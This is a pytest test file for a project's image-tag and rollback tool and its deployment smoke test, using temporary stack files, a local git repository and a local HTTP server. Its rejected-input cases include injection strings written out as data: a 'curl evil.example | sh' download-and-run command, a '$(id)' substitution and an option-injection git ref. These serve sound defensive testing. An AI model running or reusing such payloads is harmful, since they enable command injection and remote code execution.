"""The workflows' tools: `tools/set_image.py` (the image-tag pull request's edit, and the rollback's image
from a git ref) and `tools/smoke_test.py` (the smoke test), against copies of the stack files, a local git
repository and a local server."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from tools import set_image, smoke_test
from tools.smoke_test import WEBSOCKET_GUID, websocket_accept

PROJECT_DIR = Path(__file__).resolve().parents[1]
REPOSITORY = "ghcr.io/your-org/hft-trading-platform/frontend"
DIGEST = "sha256:" + "ab" * 32


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for stack_file in PROJECT_DIR.glob("Pulumi.*.yaml"):
        shutil.copy(stack_file, tmp_path / stack_file.name)
    return tmp_path


def _image(path: Path) -> str:
    return yaml.safe_load(path.read_text())["config"]["hft-frontend:app"]["image"]


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("v1.4.2", f"{REPOSITORY}:v1.4.2"),
        (DIGEST, f"{REPOSITORY}@{DIGEST}"),
        (f"v1.4.2@{DIGEST}", f"{REPOSITORY}:v1.4.2@{DIGEST}"),
        (f"{REPOSITORY}:2026.11.3", f"{REPOSITORY}:2026.11.3"),
    ],
)
def test_the_image_is_set_in_place_and_nothing_else_changes(project: Path, given: str, expected: str) -> None:
    before = {p.name: p.read_text() for p in project.glob("Pulumi.*.yaml")}
    assert set_image.main(["--image", given, "--project-dir", str(project)]) == 0
    for name, old_text in before.items():
        new_text = (project / name).read_text()
        assert _image(project / name) == expected
        changed = [(a, b) for a, b in zip(old_text.splitlines(), new_text.splitlines(), strict=True) if a != b]
        assert len(changed) == 1, changed  # one line: comments, order and layout kept
        assert changed[0][1].strip() == f"image: {expected}"


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ("latest", "the tag latest moves"),
        (f"{REPOSITORY}", "no tag"),
        ("ghcr.io/someone-else/frontend:v1.4.2", "not of the repository the stacks deploy"),
        # Another repository, not a malformed tag: the message says which.
        ("nginx:1.27", "names the repository nginx (Docker Hub's docker.io/library/nginx), not the one the stacks"),
        ("docker.io/library/nginx:1.27", "not of the repository the stacks deploy"),
        ("v1.4.2; curl evil.example | sh", "whitespace"),
        ("v1.4.2$(id)", "not a tag, a sha256 digest or an image reference"),
        ("sha256:abc", "not a tag, a sha256 digest or an image reference"),
        ("", "empty"),
    ],
)
def test_a_bad_image_is_refused_with_one_line_and_nothing_written(
    project: Path, given: str, why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before = {p.name: p.read_text() for p in project.glob("Pulumi.*.yaml")}
    assert set_image.main(["--image", given, "--project-dir", str(project)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert err.count("\n") == 1
    assert why in err
    assert {p.name: p.read_text() for p in project.glob("Pulumi.*.yaml")} == before


def test_no_file_is_written_unless_every_file_can_be(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    broken = project / "Pulumi.production.yaml"
    broken.write_text(broken.read_text().replace("  hft-frontend:app:\n    image:", "  hft-frontend:app:\n    imagex:"))
    staging = (project / "Pulumi.staging.yaml").read_text()
    assert set_image.main(["--image", "v9.9.9", "--project-dir", str(project)]) == 1
    assert "Pulumi.production.yaml: no config.hft-frontend:app.image" in capsys.readouterr().err
    assert (project / "Pulumi.staging.yaml").read_text() == staging


def test_quoting_and_comments_are_kept(tmp_path: Path) -> None:
    path = tmp_path / "Pulumi.qa.yaml"
    path.write_text(
        "config:\n  # the app\n  hft-frontend:app:\n"
        f'    image: "{REPOSITORY}:v1"  # set by the image-tag workflow\n    replicas: 2\n'
    )
    edit = set_image.set_image(path, "v2")
    assert edit.text == (
        "config:\n  # the app\n  hft-frontend:app:\n"
        f'    image: "{REPOSITORY}:v2"  # set by the image-tag workflow\n    replicas: 2\n'
    )


def test_the_workflow_gets_validated_outputs(project: Path) -> None:
    out = project / "github-output"
    assert (
        set_image.main(
            ["--image", DIGEST, "--stack", "staging", "--project-dir", str(project), "--github-output", str(out)]
        )
        == 0
    )
    assert out.read_text().splitlines() == [
        f"image={REPOSITORY}@{DIGEST}",
        f"version={DIGEST.removeprefix('sha256:')[:12]}",
        f"branch=image/{DIGEST.removeprefix('sha256:')[:12]}",
        "stacks=staging",
    ]
    assert _image(project / "Pulumi.production.yaml") != f"{REPOSITORY}@{DIGEST}"  # only the stack asked for


def test_an_unknown_stack_is_refused(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert set_image.main(["--image", "v2", "--stack", "qa", "--project-dir", str(project)]) == 1
    assert "no stack file for qa" in capsys.readouterr().err


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()


@pytest.fixture
def history(project: Path) -> tuple[Path, str]:
    """A repository whose stack files named v1.0.0, then (in the commit checked out) v1.1.0."""
    _git(project, "init", "-q")
    assert set_image.main(["--image", "v1.0.0", "--project-dir", str(project)]) == 0
    _git(project, "add", ".")
    _git(project, "commit", "-q", "-m", "v1.0.0")
    old = _git(project, "rev-parse", "HEAD")
    _git(project, "tag", "release-1.0")
    assert set_image.main(["--image", "v1.1.0", "--project-dir", str(project)]) == 0
    _git(project, "commit", "-q", "-am", "v1.1.0")
    return project, old


@pytest.mark.parametrize("ref", ["HEAD~1", "release-1.0", "old-commit"])
def test_from_ref_sets_the_image_the_stack_file_had_there(history: tuple[Path, str], ref: str) -> None:
    project, old = history
    out = project / "github-output"
    ref = old if ref == "old-commit" else ref
    argv = ["--from-ref", ref, "--stack", "production", "--project-dir", str(project), "--github-output", str(out)]
    assert set_image.main(argv) == 0
    assert _image(project / "Pulumi.production.yaml") == f"{REPOSITORY}:v1.0.0"
    assert _image(project / "Pulumi.staging.yaml") == f"{REPOSITORY}:v1.1.0"  # only the stack asked for
    assert f"commit={old}" in out.read_text().splitlines()
    assert f"image={REPOSITORY}:v1.0.0" in out.read_text().splitlines()


@pytest.mark.parametrize(
    ("ref", "why"),
    [
        ("--output=/tmp/x", "not a git ref"),  # never read as an option of git
        ("no-such-branch", "no such commit"),
        ("HEAD~1 HEAD", "not a git ref"),
        ("", "not a git ref"),
    ],
)
def test_a_bad_ref_is_refused_with_one_line_and_nothing_written(
    history: tuple[Path, str], ref: str, why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    project, _ = history
    before = {p.name: p.read_text() for p in project.glob("Pulumi.*.yaml")}
    # As the rollback workflow passes it: one word, so argparse never reads the value as an option.
    assert set_image.main([f"--from-ref={ref}", "--stack", "production", "--project-dir", str(project)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert err.count("\n") == 1
    assert why in err
    assert {p.name: p.read_text() for p in project.glob("Pulumi.*.yaml")} == before


def test_an_image_at_a_ref_is_validated_like_a_given_one(
    history: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    project, _ = history
    production = project / "Pulumi.production.yaml"
    production.write_text(production.read_text().replace(f"{REPOSITORY}:v1.1.0", "ghcr.io/other/frontend:v9"))
    _git(project, "commit", "-q", "-am", "a foreign image")
    production.write_text(production.read_text().replace("ghcr.io/other/frontend:v9", f"{REPOSITORY}:v1.1.0"))
    assert set_image.main(["--from-ref", "HEAD", "--stack", "production", "--project-dir", str(project)]) == 1
    assert "not of the repository the stacks deploy" in capsys.readouterr().err


def test_image_and_ref_exclude_each_other(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        set_image.main(["--image", "v2", "--from-ref", "HEAD", "--project-dir", str(project)])
    assert exit_.value.code == 2
    assert "not allowed with argument" in capsys.readouterr().err


# --- the smoke test ------------------------------------------------------------------------------


class _App:
    """What the local server answers; tests change it between attempts."""

    def __init__(self) -> None:
        self.health = [200]  # statuses for successive health requests (the last one repeats)
        self.ws_status = 101
        self.ws_accept_ok = True


def _handler(app: _App) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            if self.path == "/api/health":
                status = app.health.pop(0) if len(app.health) > 1 else app.health[0]
                self.send_response(status)
                if 300 <= status < 400:
                    # A redirect to a healthy answer: a client that followed it would see 200.
                    self.send_header("Location", "/moved/api/health")
                self.end_headers()
                self.wfile.write(b'{"status":"ok"}')
            elif self.path == "/moved/api/health":
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b'{"status":"ok"}')
            elif self.path == "/ws" and self.headers.get("Upgrade", "").lower() == "websocket":
                key = self.headers["Sec-WebSocket-Key"] + ("" if app.ws_accept_ok else "x")
                self.send_response(app.ws_status)
                self.send_header("Upgrade", "websocket")
                self.send_header("Connection", "Upgrade")
                self.send_header("Sec-WebSocket-Accept", websocket_accept(key))
                self.end_headers()
                self.close_connection = True
            else:
                self.send_response(404)
                self.end_headers()

    return Handler


@pytest.fixture
def server() -> Iterator[tuple[str, _App]]:
    app = _App()
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _handler(app))
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", app
    finally:
        httpd.shutdown()
        httpd.server_close()


def _smoke(url: str, attempts: int = 1) -> int:
    return smoke_test.main(["--url", url, "--attempts", str(attempts), "--interval", "0"])


def test_a_healthy_deployment_passes(server: tuple[str, _App], capsys: pytest.CaptureFixture[str]) -> None:
    url, _ = server
    assert _smoke(url) == 0
    out = capsys.readouterr().out
    assert "ok: GET /api/health: 200" in out
    assert "ok: WebSocket ws://127.0.0.1:" in out
    assert "/ws: 101 Switching Protocols" in out


@pytest.mark.parametrize(
    ("breakage", "message"),
    [
        ({"health": [503]}, "GET /api/health: expected 200, got 503"),
        ({"ws_status": 200}, "expected 101 Switching Protocols, got 'HTTP/1.0 200 OK'"),
        ({"ws_accept_ok": False}, "101 without the Sec-WebSocket-Accept for the key sent"),
    ],
)
def test_a_broken_route_fails_saying_which(
    server: tuple[str, _App], breakage: dict[str, object], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    url, app = server
    for name, value in breakage.items():
        setattr(app, name, value)
    assert _smoke(url) == 1
    err = capsys.readouterr().err
    assert message in err
    assert err.splitlines()[-1].startswith(f"error: smoke test of {url} failed: ")


# Only 200 is healthy: a 404 (the route is gone, or the edge serves another site), any redirect (the smoke
# test does not follow it: a 301 to a login page or another host proves nothing of this deployment) and
# any other 2xx fail.
@pytest.mark.parametrize("status", [404, 301, 302, 303, 307, 308, 204, 201, 500])
def test_any_health_answer_but_200_fails(
    server: tuple[str, _App], status: int, capsys: pytest.CaptureFixture[str]
) -> None:
    url, app = server
    app.health = [status]
    assert _smoke(url) == 1
    assert f"GET /api/health: expected 200, got {status}" in capsys.readouterr().err


@pytest.mark.parametrize("status", [404, 301, 302, 200, 426])
def test_any_websocket_answer_but_101_fails(
    server: tuple[str, _App], status: int, capsys: pytest.CaptureFixture[str]
) -> None:
    url, app = server
    app.ws_status = status
    assert _smoke(url) == 1
    assert "expected 101 Switching Protocols, got 'HTTP/1.0 " + str(status) in capsys.readouterr().err


def test_it_retries_until_the_rollout_answers(server: tuple[str, _App]) -> None:
    url, app = server
    app.health = [502, 502, 200]
    assert _smoke(url, attempts=2) == 1
    app.health = [502, 200]
    assert _smoke(url, attempts=2) == 0


def test_nothing_listening_fails(capsys: pytest.CaptureFixture[str]) -> None:
    with contextlib.closing(__import__("socket").socket()) as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    assert _smoke(f"http://127.0.0.1:{port}") == 1
    assert "GET /api/health:" in capsys.readouterr().err


def test_the_accept_key_is_rfc_6455s() -> None:
    # RFC 6455 section 1.3's worked example.
    assert websocket_accept("dGhlIHNhbXBsZSBub25jZQ==") == "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="
    assert base64.b64decode(websocket_accept("k")) == hashlib.sha1(("k" + WEBSOCKET_GUID).encode()).digest()


def test_the_staging_host_comes_from_the_stack_file(capsys: pytest.CaptureFixture[str]) -> None:
    assert smoke_test.main(["--stack", "staging", "--print-host"]) == 0
    assert capsys.readouterr().out.strip() == "staging.hft-platform.com"


TOOLS = sorted(p.stem for p in (PROJECT_DIR / "tools").glob("*.py") if p.stem != "__init__")


@pytest.mark.parametrize("tool", TOOLS)
@pytest.mark.parametrize("how", ["script", "module"])
def test_each_tool_runs_as_a_script_and_as_a_module(tool: str, how: str, tmp_path: Path) -> None:
    # `python3 tools/x.py` from anywhere (the docs write it so) and `python -m tools.x` from the project.
    command = (
        [sys.executable, str(PROJECT_DIR / "tools" / f"{tool}.py")]
        if how == "script"
        else [sys.executable, "-m", f"tools.{tool}"]
    )
    result = subprocess.run(
        [*command, "--help"], cwd=tmp_path if how == "script" else PROJECT_DIR, capture_output=True, text=True
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stdout.startswith("usage: ")
